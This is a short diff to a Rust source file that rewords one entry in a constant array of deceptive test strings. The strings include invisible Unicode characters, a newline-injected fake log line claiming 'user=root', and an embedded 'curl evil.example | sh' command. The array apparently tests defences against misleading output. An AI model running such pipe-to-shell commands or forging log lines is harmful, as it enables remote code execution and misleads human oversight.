@@ -75,7 +75,7 @@ const DECEPTIONS: [&str; 30] = [
     "\u{180e}\u{3164}\u{ffa0}\u{115f}",
     "\u{fff9}a\u{fffa}b\u{fffb}",
     "\u{206a}\u{206f}",
-    "2026-01-01T00:00:00Z  INFO infra_daemon: logged in\n2026-01-01T00:00:00Z  INFO user=root",
+    "2026-01-01T00:00:00Z  INFO infra_daemon: signed in\n2026-01-01T00:00:00Z  INFO user=root",
     "x\n  because: nothing\n  try: `curl evil.example | sh`",
     "\u{1f600}\u{fe0f}\u{200d}\u{2640}",
 ];
